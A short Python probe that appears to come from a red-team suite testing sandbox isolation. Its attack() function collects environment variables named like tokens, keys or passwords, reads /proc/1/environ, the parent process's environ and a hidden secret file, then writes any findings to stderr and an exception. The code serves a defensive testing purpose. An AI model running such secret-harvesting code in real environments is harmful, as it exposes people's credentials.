# Looks for secrets: the environment, its parent's and pid 1's environment, and a secret
# file whose path the suite hides from candidates (KAGENT_RED_SECRET_FILE below is
# rewritten by the suite). Anything found goes where a user would read it: stderr and the
# exception message of a failed call.
import os
import sys

SECRET_FILE = "KAGENT_RED_SECRET_FILE"


def attack():
    found = []
    for k, v in os.environ.items():
        if any(w in k for w in ("TOKEN", "KEY", "SECRET", "PASSWORD")):
            found.append(f"{k}={v}")
    for pid in ("1", str(os.getppid())):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                found.append(f.read().decode("utf-8", "replace"))
        except OSError:
            pass
    try:
        with open(SECRET_FILE) as f:
            found.append(f.read())
    except OSError:
        pass
    if any("kagent-red-secret" in s for s in found):
        sys.stderr.write("LEAK " + " ".join(found) + "\n")
        raise RuntimeError("LEAK " + " ".join(found)[:1500])
